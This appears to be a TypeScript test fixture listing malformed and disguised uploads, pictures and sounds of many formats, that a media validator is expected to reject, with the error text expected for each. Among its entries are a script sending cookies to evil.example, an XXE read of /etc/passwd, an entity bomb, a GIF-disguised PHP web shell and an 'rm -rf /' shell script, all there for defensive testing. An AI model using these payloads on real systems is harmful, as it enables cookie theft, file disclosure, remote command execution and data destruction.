import { randomBytes } from 'node:crypto';
import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { avifOf, box, heicOf } from '#test/heif-files.ts';
import {
  mp3Of,
  pngChunk,
  pngHeader,
  pngOf,
  pngSignature,
  riff,
  wavFormat,
  wavOf,
  webmOf,
  webmTrack,
} from '#test/media-files.ts';
import { keptSound } from '#test/sounds/kept-sound.ts';

export type FileContent = Uint8Array | string | Promise<Uint8Array>;
/** A file that must not be taken, and what is said of it. */
export type HostileFile = [name: string, content: () => FileContent, reason: string | RegExp];

export const svg = (inside = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${inside}<rect width="9" height="9"/></svg>`;
export const script = '<script>fetch("https://evil.example/" + document.cookie)</script>';
export const allowed = /^file must be a PNG, JPEG, WebP, HEIC or AVIF picture or a WAV, MP3, Ogg, FLAC or WebM sound/;
const text = (latin1: string, zeros = 2000) => Buffer.concat([Buffer.from(latin1, 'latin1'), Buffer.alloc(zeros)]);
export const hex = (digits: string, zeros = 2000) => Buffer.concat([Buffer.from(digits, 'hex'), Buffer.alloc(zeros)]);

export const wrongTypes: HostileFile[] = [
  ['an SVG picture', () => svg(), allowed],
  ['an SVG picture with a script', () => svg(script), allowed],
  ['an SVG picture with a script in an event', () => svg('<image href="x" onerror="alert(1)"/>'), allowed],
  [
    'an SVG picture that reads a file by an entity',
    () => `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('&x;')}`,
    allowed,
  ],
  ['an SVG picture after a byte order mark', () => `\ufeff${svg(script)}`, allowed],
  ['an SVG picture packed as svgz', () => gzipSync(svg(script)), /\(this is gz\)/],
  ['an HTML page', () => `<!DOCTYPE html><html>${script}</html>`, allowed],
  ['an XML bomb of entities', () => '<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>', allowed],
  ['a JavaScript file', () => 'alert(1)', allowed],
  ['a PHP file that begins as a GIF', () => 'GIF89a<?php system($_GET["c"]); ?>', /\(this is gif\)/],
  ['a GIF picture', () => sharp(pngOf(9, 9)).gif().toBuffer(), /\(this is gif\)/],
  ['a TIFF picture', () => sharp(pngOf(9, 9)).tiff().toBuffer(), /\(this is tif\)/],
  ['a BMP picture', () => text('BM'), /\(this is bmp\)/],
  ['an icon', () => hex('00000100010010100000'), /\(this is ico\)/],
  ['a PDF document', () => text('%PDF-1.7\n'), /\(this is pdf\)/],
  ['a PostScript document', () => text('%!PS-Adobe-3.0\n'), /\(this is ps\)/],
  ['a ZIP archive', () => hex('504b0506'), allowed],
  ['a GZIP archive', () => gzipSync('x'.repeat(9999)), /\(this is gz\)/],
  ['a program of Linux', () => hex('7f454c46020101'), /\(this is elf\)/],
  ['a program of Windows', () => text('MZ'), /\(this is exe\)/],
  ['a shell script', () => '#!/bin/sh\nrm -rf /\n', allowed],
  ['WebAssembly', () => hex('0061736d01000000'), /\(this is wasm\)/],
  ['an Ogg file of nothing that is known', () => text('OggS\0\u0002'), /\(this is ogx\)/],
  ['an AAC sound', () => hex('fff15080'), /\(this is AAC, which cannot be read here\)/],
  [
    'an m4a of a telephone',
    () => keptSound('tone.m4a'),
    /\(this is m4a, whose AAC or ALAC sound cannot be read here\)/,
  ],
  ['an MPEG sound of layer II', () => mp3Of(4, [0xff, 0xfd, 0x90, 0xc0]), allowed],
  ['an MP4 film', () => text('\0\0\0\u0018ftypisom\0\0\u0002\0isomiso2'), /\(this is mp4\)/],
  ['an AVI film', () => text('RIFF\0\0\0\u0010AVI LIST'), /\(this is avi\)/],
  ['a Matroska film', () => webmTrack(2, 'A_OPUS', [Buffer.alloc(3)], 'matroska'), /\(this is mkv\)/],
  ['an empty file', () => '', 'file must not be empty'],
  ['a file of one byte', () => 'x', allowed],
  ['a file of zeros', () => Buffer.alloc(100_000), allowed],
  ['noise', () => Buffer.concat([Buffer.alloc(1, 1), randomBytes(50_000)]), allowed],
];

const pixels = (bytes: number) => pngChunk('IDAT', deflateSync(Buffer.alloc(bytes), { level: 9 }));
const apngControl = pngChunk('acTL', Buffer.from('0000000200000000', 'hex'));
export const jpeg = () =>
  sharp({ create: { width: 64, height: 64, channels: 3, background: 'red' } })
    .jpeg()
    .toBuffer();
export const webp = (pages = 1) =>
  sharp(
    Buffer.alloc(32 * 32 * pages * 3, 7).map((_, at) => (at * 7) % 251),
    {
      raw: { width: 32, height: 32 * pages, channels: 3, ...(pages > 1 ? { pageHeight: 32 } : {}) },
    },
  )
    .webp()
    .toBuffer();
const part = async (whole: FileContent, share: number) => {
  const bytes = Buffer.from((await whole) as Uint8Array);
  return bytes.subarray(0, Math.floor(bytes.length * share));
};
const changed = async (whole: FileContent, at: number, bytes: number[]) => {
  const copy = Buffer.from((await whole) as Uint8Array);
  copy.set(bytes, at);
  return copy;
};
const png = (...chunks: Uint8Array[]) => Buffer.concat([pngSignature, ...chunks]);
const broken = 'file must be a whole picture: this one is broken';
const tooLarge = /^file must be a picture of at most 16,384 pixels a side and (51|108),000,000 pixels in all/;

const heic = (shape = {}) =>
  heicOf({ columns: 2, tiles: ['red', 'green', 'blue', 'grey'], width: 128, height: 128, ...shape });
const avif = () => avifOf({ primaries: 1, transfer: 13 });
const moving = 'file must not be an animated picture (this is a sequence of pictures, HEIC or AVIF)';

export const pictures: HostileFile[] = [
  ['a PNG that is nothing but its signature', () => pngSignature, /^file must be/],
  [
    'a PNG that ends in the middle',
    () => part(pngOf(300, 300, { beside: pngChunk('tEXt', randomBytes(500)) }), 0.9),
    broken,
  ],
  ['a PNG without pixels', () => png(pngHeader(9, 9), pngChunk('IEND')), broken],
  ['a PNG with fewer rows than it says', () => pngOf(200, 200, { rows: 3 }), broken],
  [
    'a PNG whose pixels are no zlib stream',
    () => png(pngHeader(9, 9), pngChunk('IDAT', randomBytes(90)), pngChunk('IEND')),
    broken,
  ],
  ['a PNG with a wrong checksum', () => changed(pngOf(9, 9), pngOf(9, 9).length - 16, [1, 2, 3, 4]), broken],
  ['a PNG with a wrong checksum of its header', () => changed(pngOf(9, 9), 29, [1, 2, 3, 4]), /^file must be/],
  ['a PNG of no width', () => png(pngHeader(0, 9), pixels(9), pngChunk('IEND')), broken],
  ['a PNG of an impossible depth', () => png(pngHeader(9, 9, { bits: 7 }), pixels(90), pngChunk('IEND')), broken],
  [
    'a PNG of an impossible kind of colour',
    () => png(pngHeader(9, 9, { color: 5 }), pixels(90), pngChunk('IEND')),
    broken,
  ],
  [
    'a PNG that says it has ten thousand million pixels',
    () => png(pngHeader(100_000, 100_000), pixels(9), pngChunk('IEND')),
    /^file must be/,
  ],
  [
    'a PNG that says it has the most that a PNG can',
    () => png(pngHeader(0x7fffffff, 0x7fffffff), pixels(9), pngChunk('IEND')),
    /^file must be/,
  ],
  ['a decompression bomb of 8000 × 8000 in 64 KiB', () => pngOf(8000, 8000), tooLarge],
  ['a picture of 1 × 60000', () => pngOf(1, 60_000), tooLarge],
  ['a picture of 60000 × 1', () => pngOf(60_000, 1), tooLarge],
  ['a picture with one pixel a side too much', () => pngOf(16_385, 10), tooLarge],
  [
    'an animated PNG',
    () => png(pngHeader(9, 9), apngControl, pixels(90), pngChunk('IEND')),
    'file must not be an animated picture',
  ],
  ['a HEIC that is nothing but its beginning', () => heic().subarray(0, 40), broken],
  ['a HEIC whose last tile is cut', () => part(heic(), 0.99), 'file must be a whole picture: this one ends too early'],
  ['a HEIC whose tiles are noise', () => Buffer.concat([heic().subarray(0, -110), randomBytes(110)]), broken],
  ['a HEIC whose index is noise', () => changed(heic(), 60, [...randomBytes(300)]), /^file must be/],
  ['a HEIC that says it has 60000 × 60000 pixels', () => heic({ width: 60_000, height: 60_000 }), tooLarge],
  ['a HEIC of more than its tiles hold', () => heic({ width: 5000, height: 5000 }), broken],
  ['a HEIC with a JPEG inside', () => heic({ codec: 'jpeg' }), /\(this is a HEIF picture of the kind jpeg\)/],
  ['a sequence of HEIC pictures', () => heic({ brand: 'hevc' }), moving],
  ['a HEIF file with a film beside its picture', () => heic({ beside: box('moov', Buffer.alloc(8)) }), moving],
  ['a sequence of AVIF pictures', () => changed(avif(), 8, [...Buffer.from('avis')]), moving],
  ['an AVIF that ends in the middle', () => part(avif(), 0.95), 'file must be a whole picture: this one'],
  ['an AVIF whose pixels are noise', () => Buffer.concat([avif().subarray(0, -30), randomBytes(30)]), broken],
  ['an animated WebP', () => webp(3), 'file must not be an animated picture'],
  ['a JPEG that is nothing but its beginning', () => Buffer.from('ffd8ffe0', 'hex'), broken],
  ['a JPEG that ends in the middle', () => part(jpeg(), 0.8), broken],
  [
    'a JPEG that says it has 65500 × 65500 pixels',
    async () => changed(jpeg(), (await jpeg()).indexOf(Buffer.from('ffc0', 'hex')) + 5, [0xff, 0xdc, 0xff, 0xdc]),
    tooLarge,
  ],
  ['a JPEG without its tables', () => Buffer.from('ffd8ffda0008010100003f00aabbccddffd9', 'hex'), broken],
  ['a WebP that ends in the middle', () => part(webp(), 0.5), broken],
  ['a WebP that is nothing but its beginning', () => text('RIFF\u0004\0\0\0WEBP', 0), /^file must be/],
  [
    'a WebP of noise',
    () => Buffer.concat([Buffer.from('RIFF\u0068\0\0\0WEBPVP8 \u005c\0\0\0', 'latin1'), randomBytes(92)]),
    broken,
  ],
];

const noisy = async (name: string, from: number) => {
  const bytes = await keptSound(name);
  return Buffer.concat([bytes.subarray(0, from), Buffer.alloc(bytes.length - from, 0x5a)]);
};
const wave = (data: Uint8Array, shape = {}, size?: number) => riff(['fmt ', wavFormat(shape)], ['data', data, size]);
const floats = (...values: number[]) => Buffer.from(new Float32Array([...Array(400).fill(0), ...values]).buffer);
const brokenSound = 'file must be a whole sound: this one';
/** For a process that is told so: the longest of the usual length take a while to decode. */
export const maxSoundSeconds = 60;

export const sounds: HostileFile[] = [
  ['a WAV that is nothing but its beginning', () => text('RIFF\u0004\0\0\0WAVE', 0), `${brokenSound} ends too early`],
  ['a WAV without a sample', () => wave(Buffer.alloc(0)), `${brokenSound} holds nothing to hear`],
  [
    'a WAV with a value that is no number',
    () => wave(floats(Number.NaN), { format: 3, bits: 32 }),
    `${brokenSound} holds values that are no numbers`,
  ],
  [
    'a WAV with a value without end',
    () => wave(floats(Infinity), { format: 3, bits: 32 }),
    `${brokenSound} holds values that are no numbers`,
  ],
  ['a WAV that ends in the middle', () => part(wavOf(1), 0.5), `${brokenSound} is shorter than it says`],
  [
    'a WAV that does not say how it is written',
    () => riff(['data', Buffer.alloc(800)]),
    `${brokenSound} does not say how`,
  ],
  [
    'a WAV that says how it is written too late',
    () => riff(['data', Buffer.alloc(80)], ['fmt ', wavFormat()]),
    `${brokenSound} does not say how`,
  ],
  [
    'a WAV that says how it is written too shortly',
    () => riff(['fmt ', Buffer.alloc(8)], ['data', Buffer.alloc(8)]),
    `${brokenSound} does not say how`,
  ],
  [
    'a WAV with nine channels',
    () => wave(Buffer.alloc(1800), { channels: 9 }),
    'file must be a sound of 1 to 8 channels (this has 9)',
  ],
  ['a WAV without a channel', () => wave(Buffer.alloc(1200), { channels: 0 }), '1 to 8 channels (this has 0)'],
  [
    'a WAV of one sample a second',
    () => wave(Buffer.alloc(800), { rate: 1 }),
    '8,000 to 192,000 samples a second (this has 1)',
  ],
  [
    'a WAV of four thousand million samples a second',
    () => wave(Buffer.alloc(800), { rate: 4_000_000_000 }),
    '8,000 to 192,000 samples a second',
  ],
  [
    'a WAV of 12 bits',
    () => wave(Buffer.alloc(1200), { bits: 12 }),
    'file must be a WAV of PCM with 8, 16, 24 or 32 bits',
  ],
  ['a WAV of ADPCM', () => keptSound('adpcm.wav'), '(this is IMA ADPCM)'],
  [
    'a WAV that contradicts itself',
    () => wave(Buffer.alloc(1200), { bytesPerFrame: 7 }),
    `${brokenSound} contradicts itself`,
  ],
  [
    'a WAV that is too long',
    () => wave(Buffer.alloc(8000 * maxSoundSeconds + 1, 128), { bits: 8 }),
    `file must be a sound of at most ${maxSoundSeconds} seconds`,
  ],
  ['an MP3 that ends in the middle of a frame', () => part(mp3Of(10), 0.97), `${brokenSound} ends too early`],
  [
    'an MP3 with fewer frames than it says',
    () => changed(mp3Of(10), 21, [...Buffer.from('Info\0\0\0\u0001\0\0\u0001\0', 'latin1')]),
    `${brokenSound} ends too early`,
  ],
  [
    'an MP3 with noise in the middle',
    () => Buffer.concat([mp3Of(5), Buffer.alloc(300, 7), mp3Of(5)]),
    'something follows its frames',
  ],
  [
    'an MP3 with an archive behind it',
    () => Buffer.concat([mp3Of(5), text('PK\u0003\u0004')]),
    'something follows its frames',
  ],
  [
    'an MP3 that changes its rate',
    () => Buffer.concat([mp3Of(5), mp3Of(5, [0xff, 0xfb, 0x94, 0xc0])]),
    `${brokenSound} changes how it is written`,
  ],
  ['an MP3 that is nothing but a tag', () => text('ID3\u0003\0\0\0\0\u0001\0'), /^file must be/],
  [
    'an MP3 whose tag is longer than the file',
    () => Buffer.concat([Buffer.from('ID3\u0003\0\0\u007f\u007f\u007f\u007f', 'latin1'), mp3Of(9)]),
    /^file must be/,
  ],
  ['a WebM that ends in the middle', () => part(webmOf(1), 0.7), `${brokenSound} ends too early`],
  ['a WebM that is nothing but its beginning', () => webmTrack(2, 'A_OPUS', []).subarray(0, 60), /^file must be/],
  ['a WebM without a block', () => webmTrack(2, 'A_OPUS', []), `${brokenSound} holds nothing to hear`],
  [
    'a WebM with pictures and no sound',
    () => webmTrack(1, 'V_VP8', [Buffer.alloc(40)]),
    'file must have sound: this WebM has no sound',
  ],
  [
    'a WebM of a codec that it cannot have',
    () => webmTrack(2, 'A_AAC', [Buffer.alloc(40)]),
    'this has another codec (aac)',
  ],
  ['a WebM of Vorbis without its headers', () => webmTrack(2, 'A_VORBIS', [Buffer.alloc(40)]), brokenSound],
  ['an Ogg that ends within a page', () => part(keptSound('vorbis.ogg'), 0.8), `${brokenSound} ends too early`],
  ['an Ogg whose pages are noise', () => noisy('vorbis.ogg', 600), brokenSound],
  ['a FLAC that ends in the middle', () => part(keptSound('tone.flac'), 0.6), brokenSound],
  ['a FLAC that is nothing but its beginning', () => text('fLaC'), brokenSound],
  ['a WebM whose blocks are broken', () => webmTrack(2, 'A_OPUS', [Buffer.from('ff00', 'hex')]), brokenSound],
];
